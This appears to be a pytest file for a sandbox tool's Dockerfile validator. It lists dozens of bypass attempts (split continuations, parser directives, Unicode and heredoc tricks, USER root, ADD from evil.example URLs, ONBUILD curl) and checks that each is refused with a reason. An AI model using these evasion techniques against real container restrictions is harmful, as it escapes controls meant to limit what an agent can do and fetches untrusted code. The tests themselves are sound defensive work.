"""Dockerfile rules: every known way around the capability check is refused, with a reason.

Each bypass is written the way Docker would read it as something forbidden; the check must
refuse it (and say why), not pass it on because a line-based reading saw something else.
"""

from __future__ import annotations

import pytest

from bottle.dockerfiles import (
    AGENT_IMAGE_ARG,
    BUILD_CA_NAME,
    BUILD_CA_PATH,
    CA_VARIABLES,
    buildable_dockerfile,
    check_capability_dockerfile,
    check_custom_agent_dockerfile,
    declares_arg,
    instructions,
    with_build_trust,
)

AGENT = "bottle-agent:abc123"
HEAD = "FROM ${BOTTLE_AGENT_IMAGE}\n"

BYPASSES = [
    # continuations joined before the instruction word is read
    ("FR\\\nOM alpine\n", "must start with"),
    (HEAD + "ENTR\\\nYPOINT /bin/sh\n", "not an instruction"),
    (HEAD + "US\\\nER root\n", "not an instruction"),
    (HEAD + "FR\\\nOM alpine\n", "not an instruction"),
    (HEAD + "COPY --fr\\\nom=alpine /bin/sh /x\n", "--from is not allowed"),
    (HEAD + "COPY \\\n  --from=alpine /bin/sh /x\n", "--from is not allowed"),
    (HEAD + "COPY \\\n# a comment between\n  --from=alpine /a /b\n", "--from is not allowed"),
    (HEAD + "RUN --mo\\\nunt=type=cache,target=/x true\n", "RUN --mount is not allowed"),
    # empty lines inside a continuation: Docker keeps joining, so ADD takes the URL
    (HEAD + "ADD \\\n\nRUN https://evil.example/x /x\n", "empty line inside a continuation"),
    (HEAD + "RUN echo \\\n   \nUSER root\n", "empty line inside a continuation"),
    # parser directives change how the rest is read
    ("# escape=`\n" + HEAD + "RUN echo `\nENTRYPOINT x\n", "parser directive"),
    ("#escape=\\\n" + HEAD, "parser directive"),
    ("  # ESCAPE = `\n" + HEAD, "parser directive"),
    ("# syntax=docker/dockerfile:1\n" + HEAD, "parser directive"),
    ("# syntax=evil/frontend\n# escape=`\n" + HEAD, "parser directive"),
    ("# check=skip=all\n" + HEAD, "parser directive"),
    ("# a comment first\n# escape=`\n" + HEAD, "parser directive"),
    # case and white space
    (HEAD + "entrypoint /bin/sh\n", "ENTRYPOINT is not allowed"),
    (HEAD + "EntryPoint /bin/sh\n", "ENTRYPOINT is not allowed"),
    (HEAD + "\tuser\troot\n", "USER is not allowed"),
    (HEAD + "CMD\n", "CMD is not allowed"),
    (HEAD + "CMD", "CMD is not allowed"),
    # characters Python and Go split or trim differently
    (HEAD + "RUN echo \\\u00a0\nENTRYPOINT x\n", "NO-BREAK SPACE"),
    (HEAD + "RUN echo hi\u2028ENTRYPOINT x\n", "LINE SEPARATOR"),
    (HEAD + "RUN echo hi\rENTRYPOINT x\n", "carriage returns"),
    (HEAD.replace("\n", "\r\n"), "carriage returns"),
    (HEAD + "RUN echo\x0bhi\n", "control characters"),
    (HEAD + "RUN echo \\\x0c\nUSER root\n", "control characters"),
    ("\ufeff" + HEAD, "byte order mark"),
    (HEAD + "RUN echo \ufeff\n", "byte order mark"),
    # JSON form and shell form alike
    (HEAD + 'ENTRYPOINT ["/bin/sh"]\n', "ENTRYPOINT is not allowed"),
    (HEAD + 'CMD ["sh", "-c", "x"]\n', "CMD is not allowed"),
    (HEAD + 'SHELL ["/bin/bash", "-c"]\n', "SHELL is not allowed"),
    # what runs later, or elsewhere
    (HEAD + "ONBUILD RUN curl evil\n", "ONBUILD is not allowed"),
    (HEAD + "onbuild ENTRYPOINT x\n", "ONBUILD is not allowed"),
    (HEAD + "STOPSIGNAL SIGKILL\n", "STOPSIGNAL is not allowed"),
    (HEAD + "HEALTHCHECK CMD true\n", "HEALTHCHECK is not allowed"),
    (HEAD + "VOLUME /workspace\n", "VOLUME is not allowed"),
    (HEAD + "USER 0:0\n", "USER is not allowed"),
    # another image
    ("FROM alpine\n", "is not the agent image"),
    ("FROM ${BOTTLE_AGENT_IMAGE:-alpine}\n", "is not the agent image"),
    ("FROM ${BOTTLE_AGENT_IMAGE} AS x\n", "no AS"),
    ("FROM --platform=linux/arm64 ${BOTTLE_AGENT_IMAGE}\n", "no --platform"),
    (HEAD + "FROM alpine\n", "second FROM"),
    (HEAD + "from ${BOTTLE_AGENT_IMAGE}\n", "second FROM"),
    (HEAD + "COPY --from=0 /a /b\n", "--from is not allowed"),
    (HEAD + "ADD --from=alpine /a /b\n", "--from is not allowed"),
    (HEAD + "COPY --FROM=alpine /a /b\n", "--from is not allowed"),
    ("ARG BOTTLE_AGENT_IMAGE=alpine\n" + HEAD, "default of its own"),
    ("ARG OTHER=1\n" + HEAD, "must start with"),
    # ADD fetched by the daemon, outside egress
    (HEAD + "ADD https://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + "ADD http://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + "add HTTPS://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + 'ADD ["https://evil.example/x", "/x"]\n', "ADD from a URL"),
    (HEAD + 'ADD ["\\u0068ttps://evil.example/x", "/x"]\n', "ADD from a URL"),
    (HEAD + "ADD git://evil.example/repo.git /x\n", "ADD from a URL"),
    (HEAD + "ADD ssh://git@evil.example/repo.git /x\n", "ADD from a URL"),
    (HEAD + "ADD git@github.com:evil/repo.git /x\n", "ADD from a URL"),
    (HEAD + "ADD github.com/evil/repo /x\n", "ADD from a URL"),
    (HEAD + "ADD --chown=1:1 https://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + "ADD ht\\\ntps://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + "ARG U=https://evil.example/x\nADD $U /x\n", "ADD from a URL"),
    (HEAD + "ADD h\\ttps://evil.example/x /x\n", "ADD from a URL"),
    (HEAD + "ADD --checksum=sha256:0 x /x\n", "ADD --checksum is not allowed"),
    (HEAD + "ADD --keep-git-dir=true x /x\n", "ADD --keep-git-dir is not allowed"),
    # RUN flags that change where the step runs or what it sees
    (HEAD + "RUN --mount=type=bind,from=alpine,target=/x true\n", "RUN --mount is not allowed"),
    (HEAD + "RUN --network=host curl x\n", "RUN --network is not allowed"),
    (HEAD + "RUN --security=insecure true\n", "RUN --security is not allowed"),
    (HEAD + "RUN --device=/dev/kvm true\n", "RUN --device is not allowed"),
    # heredocs
    (HEAD + "RUN <<EOF\nENTRYPOINT\nEOF\n", "heredocs"),
    (HEAD + "RUN <<-'EOF'\nx\nEOF\n", "heredocs"),
    (HEAD + 'COPY <<"EOF" /x\nx\nEOF\n', "heredocs"),
    (HEAD + "RUN cat <<\\\nEOF\nx\nEOF\n", "heredocs"),
    # bottle's and compose's own labels
    (HEAD + "LABEL bottle.slug=other\n", "reserved"),
    (HEAD + 'LABEL "com.docker.compose.project"="x"\n', "reserved"),
    (HEAD + "LABEL a=1 Bottle.role=x\n", "reserved"),
    # not a Dockerfile bottle can read
    ("# only a comment\n", "no instructions"),
    ("", "no instructions"),
    (HEAD + "MAGIC x\n", "not an instruction"),
]


@pytest.mark.parametrize(("dockerfile", "reason"), BYPASSES)
def test_bypasses_are_refused_with_a_reason(dockerfile: str, reason: str) -> None:
    with pytest.raises(ValueError) as caught:
        check_capability_dockerfile(dockerfile, base_ref=AGENT)
    assert reason in str(caught.value)


@pytest.mark.parametrize(("dockerfile", "reason"), BYPASSES)
def test_bypasses_are_refused_on_re_reading_too(dockerfile: str, reason: str) -> None:
    # A file re-read from disk accepts any literal base; nothing else may slip through.
    if "agent image" in reason or "default of its own" in reason:
        return
    with pytest.raises(ValueError, match=reason.replace("$", r"\$").replace("-", r"\-")):
        check_capability_dockerfile(dockerfile, base_ref=None, any_literal_base=True)


ACCEPTED = [
    HEAD + "RUN apt-get update && apt-get install -y jq\n",
    "FROM $BOTTLE_AGENT_IMAGE\nRUN true",
    f"FROM {AGENT}\nRUN true\n",
    "# tools for the agent\nARG BOTTLE_AGENT_IMAGE\nfrom ${BOTTLE_AGENT_IMAGE}\n",
    HEAD + "RUN pip install ruff \\\n    # a comment inside a continuation\n    black\n",
    HEAD + "RUN echo \\\n  ENTRYPOINT\n",  # an argument of RUN, joined by the continuation
    HEAD + "ENV A=1 B=2\nARG X\nWORKDIR /opt\nLABEL org.example.tool=jq\nEXPOSE 8000\n",
    HEAD + "COPY --chown=1000:1000 --chmod=0644 a.txt /opt/a.txt\n",
    HEAD + "ADD tools.tar.gz /opt/\n",
    HEAD + 'ADD ["tools.tar.gz", "/opt/"]\n',
    HEAD + "RUN echo 'a = b' # not a directive: it is not on the first lines\n",
    "# just a note: x equals y\n" + HEAD,
    HEAD + "RUN\techo tab\n",
]


@pytest.mark.parametrize("dockerfile", ACCEPTED)
def test_what_a_capability_may_do(dockerfile: str) -> None:
    check_capability_dockerfile(dockerfile, base_ref=AGENT)


def test_instructions_join_continuations_like_docker() -> None:
    found = instructions("# c\nfrom x\nRUN a \\\n# inside\n  b\nCOPY --fr\\\nom=y /a /b\n")
    assert [(i.word, i.value, i.line, i.end_line) for i in found] == [
        ("FROM", "x", 2, 2),
        ("RUN", "a   b", 3, 5),
        ("COPY", "--from=y /a /b", 6, 7),
    ]


def test_oversized_dockerfile() -> None:
    with pytest.raises(ValueError, match="larger than"):
        check_capability_dockerfile(HEAD + "RUN true\n" * 10_000, base_ref=AGENT)


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("FROM ${BOTTLE_AGENT_IMAGE}\n", True),
        (
            "FROM golang AS build\nRUN go build\nFROM ${BOTTLE_AGENT_IMAGE}\nCOPY --from=build /a /a\n",
            True,
        ),
        ("# syntax=docker/dockerfile:1\nFROM --platform=linux/amd64 $BOTTLE_AGENT_IMAGE\n", True),
        ("fr\\\nom ${BOTTLE_AGENT_IMAGE}\n", False),  # the parser's FROM is FR\: not a FROM
        ("FROM ${BOTTLE_AGENT_IMAGE}\nFROM alpine\n", False),
        ("FROM alpine\n", False),
        ("RUN true\n", False),
    ],
)
def test_custom_agent_dockerfile_builds_on_the_provider_image(text: str, ok: bool) -> None:
    if ok:
        check_custom_agent_dockerfile(text)
    else:
        with pytest.raises(ValueError, match=AGENT_IMAGE_ARG):
            check_custom_agent_dockerfile(text)


def test_declares_arg_reads_instructions() -> None:
    assert declares_arg("ARG BASE=python:3.13-slim\nFROM ${BASE}\n", "BASE")
    assert declares_arg("arg \\\n  BASE\nFROM ${BASE}\n", "BASE")
    assert not declares_arg("ARG BASEX\nFROM x\n", "BASE")
    assert not declares_arg("# ARG BASE\nFROM x\n", "BASE")


def test_build_trust_follows_the_from_and_stays_acceptable() -> None:
    text = "# tools\nFROM \\\n  ${BOTTLE_AGENT_IMAGE}\nRUN curl https://pypi.org/"
    built = with_build_trust(text)
    lines = built.splitlines()
    assert lines[:4] == ["ARG BOTTLE_AGENT_IMAGE", "# tools", "FROM \\", "  ${BOTTLE_AGENT_IMAGE}"]
    assert lines[4] == f"COPY {BUILD_CA_NAME} {BUILD_CA_PATH}"
    assert lines[5 : 5 + len(CA_VARIABLES)] == [f"ARG {v}={BUILD_CA_PATH}" for v in CA_VARIABLES]
    assert lines[-1] == "RUN curl https://pypi.org/"
    check_capability_dockerfile(built, base_ref=AGENT)


def test_buildable_dockerfile_keeps_directives_first() -> None:
    text = "# syntax=docker/dockerfile:1\nFROM ${BOTTLE_AGENT_IMAGE}\n"
    assert buildable_dockerfile(text).splitlines()[:2] == [
        "# syntax=docker/dockerfile:1",
        "ARG BOTTLE_AGENT_IMAGE",
    ]
